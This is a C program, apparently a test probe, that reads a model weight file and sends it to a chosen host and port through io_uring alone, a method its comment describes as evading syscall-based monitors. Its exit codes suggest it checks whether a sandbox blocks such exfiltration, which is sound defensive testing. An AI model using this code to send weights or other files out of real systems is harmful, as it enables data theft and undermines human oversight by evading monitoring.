// SPDX-License-Identifier: GPL-2.0
/* uring_leak FILE HOST PORT: read a weight file and send it to HOST:PORT with
 * io_uring only (IORING_OP_READ, IORING_OP_SEND): no read/send syscalls, the
 * way a leaker avoiding syscall-based monitors would. Exit 0 when all was sent,
 * 3 on EPERM, 4 on other errors. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <liburing.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#define CHUNK (64 * 1024)

static int uring_op(struct io_uring *ring, int op, int fd, void *buf, size_t len, off_t off)
{
	struct io_uring_sqe *sqe = io_uring_get_sqe(ring);
	struct io_uring_cqe *cqe;
	int res;

	if (op == IORING_OP_READ)
		io_uring_prep_read(sqe, fd, buf, len, off);
	else
		io_uring_prep_send(sqe, fd, buf, len, 0);
	if (io_uring_submit(ring) < 0 || io_uring_wait_cqe(ring, &cqe) < 0)
		return -EIO;
	res = cqe->res;
	io_uring_cqe_seen(ring, cqe);
	return res;
}

int main(int argc, char **argv)
{
	struct sockaddr_storage ss = {};
	struct io_uring ring;
	socklen_t slen;
	char *data;
	off_t size, done = 0;
	struct stat st;
	int fd, s, n;

	if (argc != 4) {
		fprintf(stderr, "usage: uring_leak FILE HOST PORT\n");
		return 2;
	}
	if (strchr(argv[2], ':')) {
		struct sockaddr_in6 *a = (struct sockaddr_in6 *)&ss;

		a->sin6_family = AF_INET6;
		a->sin6_port = htons(atoi(argv[3]));
		inet_pton(AF_INET6, argv[2], &a->sin6_addr);
		slen = sizeof(*a);
	} else {
		struct sockaddr_in *a = (struct sockaddr_in *)&ss;

		a->sin_family = AF_INET;
		a->sin_port = htons(atoi(argv[3]));
		inet_pton(AF_INET, argv[2], &a->sin_addr);
		slen = sizeof(*a);
	}
	if (io_uring_queue_init(8, &ring, 0)) {
		perror("io_uring_queue_init");
		return 4;
	}
	fd = open(argv[1], O_RDONLY);
	if (fd < 0 || fstat(fd, &st)) {
		perror(argv[1]);
		return 4;
	}
	size = st.st_size;
	data = malloc(size);
	while (done < size) {
		n = uring_op(&ring, IORING_OP_READ, fd, data + done, size - done, done);
		if (n <= 0) {
			fprintf(stderr, "read: %s\n", strerror(-n));
			return 4;
		}
		done += n;
	}
	s = socket(ss.ss_family, SOCK_STREAM, 0);
	if (connect(s, (struct sockaddr *)&ss, slen)) {
		printf("{\"sent\": 0, \"error\": \"%s\"}\n", errno == EPERM ? "EPERM" : strerror(errno));
		return errno == EPERM ? 3 : 4;
	}
	for (done = 0; done < size; done += n) {
		n = uring_op(&ring, IORING_OP_SEND, s, data + done,
			     size - done < CHUNK ? size - done : CHUNK, 0);
		if (n <= 0) {
			printf("{\"sent\": %lld, \"error\": \"%s\"}\n", (long long)done, strerror(-n));
			return n == -EPERM ? 3 : 4;
		}
	}
	close(s);
	printf("{\"sent\": %lld, \"error\": null}\n", (long long)done);
	return 0;
}
